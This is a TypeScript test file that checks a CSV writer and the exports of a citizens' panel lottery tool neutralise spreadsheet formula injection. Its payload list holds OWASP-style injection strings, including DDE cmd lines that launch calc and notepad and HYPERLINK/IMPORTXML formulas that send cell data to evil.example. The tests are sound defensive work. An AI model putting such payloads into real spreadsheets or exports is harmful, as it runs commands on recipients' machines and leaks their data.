import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvNumber, neutralizeFormula, writeCsv, type CsvVariant } from '../../../shared/csv';
import type { PoolData } from '../../../shared/loting/model';
import { probabilitiesCsv, panelCsv, reservesCsv } from '../../../shared/loting/report';
import type { LotingResult } from '../../../shared/loting/result';

/** Payloads from the OWASP CSV-injection page and common variants, as a citizen could type them. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
  '+31 6 12345678',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
];

/** Reads a file as Excel would see the cells: BOM off, the variant's separator. */
function lees(tekst: string, variant: CsvVariant = 'semicolon'): string[][] {
  expect(tekst.startsWith('\uFEFF')).toBe(true);
  const r = Papa.parse<string[]>(tekst.slice(1), {
    delimiter: variant === 'comma' ? ',' : ';',
    newline: '\r\n',
    skipEmptyLines: false,
  });
  expect(r.errors).toEqual([]);
  // The file ends in CRLF, which papaparse reads as one last empty row.
  expect(r.data.at(-1)).toEqual(['']);
  return r.data.slice(0, -1);
}

describe('shared/csv: the one CSV writer', () => {
  it('prefixes every text cell that a spreadsheet would run as a formula with a single quote', () => {
    for (const p of payloads) {
      expect(neutralizeFormula(p)).toBe(`'${p}`);
      const [[cel]] = lees(writeCsv([[p]])) as [[string]];
      expect(cel).toBe(`'${p}`);
      expect(cel).not.toMatch(/^[=+\-@\t\r]/);
    }
    for (const veilig of ['Jansen', '1234AB', 'a=b', ' =1', '']) expect(neutralizeFormula(veilig)).toBe(veilig);
  });

  it('leaves numbers written as numbers alone, with a decimal comma by default and a point as option', () => {
    expect(csvCell(-0.5)).toBe('-0,5');
    expect(csvCell(-0.5, 'comma')).toBe('-0.5');
    expect(csvCell(csvNumber(0.125, 6))).toBe('0,125000');
    expect(csvCell(csvNumber(0.125, 6), 'comma')).toBe('0.125000');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(1e-7)).toBe('0,0000001');
    expect(csvCell(Number.NaN)).toBe('');
    // The same digits as text come from outside and are escaped.
    expect(csvCell('-0,5')).toBe("'-0,5");
  });

  it('semicolons, a BOM and CRLF by default; commas as option; quotes and newlines quoted', () => {
    const rijen = [
      ['naam', 'adres', 'kans'],
      ['Jan "de" Vries', 'Dorpsstraat 1;\r\nDorp', csvNumber(0.5, 2)],
      ['a,b', 'c;d', 1],
    ];
    const puntkomma = writeCsv(rijen);
    expect(puntkomma).toBe(
      '\uFEFFnaam;adres;kans\r\n"Jan ""de"" Vries";"Dorpsstraat 1;\r\nDorp";0,50\r\na,b;"c;d";1\r\n',
    );
    expect(lees(puntkomma)).toEqual([
      ['naam', 'adres', 'kans'],
      ['Jan "de" Vries', 'Dorpsstraat 1;\r\nDorp', '0,50'],
      ['a,b', 'c;d', '1'],
    ]);
    const komma = writeCsv(rijen, { variant: 'comma' });
    expect(komma).toBe('\uFEFFnaam,adres,kans\r\n"Jan ""de"" Vries","Dorpsstraat 1;\r\nDorp",0.50\r\n"a,b",c;d,1\r\n');
    expect(lees(komma, 'comma')[1]).toEqual(['Jan "de" Vries', 'Dorpsstraat 1;\r\nDorp', '0.50']);
    expect(writeCsv([['a']], { bom: false })).toBe('a\r\n');
  });

  it('any text round-trips through papaparse as the escaped text, in both variants', () => {
    const cel = fc.string({
      unit: fc.constantFrom('a', ' ', ';', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', "'", 'é'),
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(cel, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        fc.constantFrom<CsvVariant>('semicolon', 'comma'),
        (rijen, variant) => {
          const terug = lees(writeCsv(rijen, { variant }), variant);
          expect(terug).toEqual(rijen.map((r) => r.map(neutralizeFormula)));
          for (const r of terug) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('loting CSV exports (panel, reserves, probabilities)', () => {
  // Three respondents; the id and name columns come from a citizens' sign-up form.
  const gegevens: PoolData = {
    kolommen: [
      { naam: 'id', rol: 'id' },
      { naam: 'naam', rol: 'meenemen' },
      { naam: 'wijk', rol: 'kenmerk' },
    ],
    rijen: [
      ['=1+1', '@SUM(A1)', 'Noord'],
      ['+31612345678', '-2+3', 'Zuid'],
      ['R3', 'Jan "Jantje" de Vries; jr.', 'Oost'],
    ],
  };
  const r = {
    panel: [0, 2],
    reserves: [1],
    vervangers: [{ lid: 0, reserve: 1, zelfdeProfiel: false }],
    kansen: [0.5, 0.25, 0.125],
    legacy: { kansen: [0.4, 0.3, 0.2] },
  } as unknown as LotingResult;
  const keuze = { kolommen: ['naam'] };

  it('escape respondent data, keep our numbers, and open in Dutch Excel by default', () => {
    expect(lees(panelCsv(r, gegevens, keuze))).toEqual([
      ['id', 'naam', 'kans', 'nummer'],
      ["'=1+1", "'@SUM(A1)", '0,500000', '1'],
      ['R3', 'Jan "Jantje" de Vries; jr.', '0,125000', '3'],
    ]);
    expect(lees(reservesCsv(r, gegevens, keuze))).toEqual([
      ['volgorde', 'id', 'naam', 'vervangt'],
      ['1', "'+31612345678", "'-2+3", "'=1+1"],
    ]);
    expect(lees(probabilitiesCsv(r, gegevens))).toEqual([
      ['id', 'kans_leximin', 'kans_gretig', 'in_panel'],
      ["'=1+1", '0,500000', '0,400000', '1'],
      ["'+31612345678", '0,250000', '0,300000', '0'],
      ['R3', '0,125000', '0,200000', '1'],
    ]);
  });

  it('the comma variant is there as an option', () => {
    expect(lees(probabilitiesCsv(r, gegevens, 'comma'), 'comma')[1]).toEqual(["'=1+1", '0.500000', '0.400000', '1']);
    expect(lees(panelCsv(r, gegevens, keuze, 'comma'), 'comma')[2]).toEqual([
      'R3',
      'Jan "Jantje" de Vries; jr.',
      '0.125000',
      '3',
    ]);
    expect(lees(reservesCsv(r, gegevens, keuze, 'comma'), 'comma')[0]).toEqual(['volgorde', 'id', 'naam', 'vervangt']);
  });
});
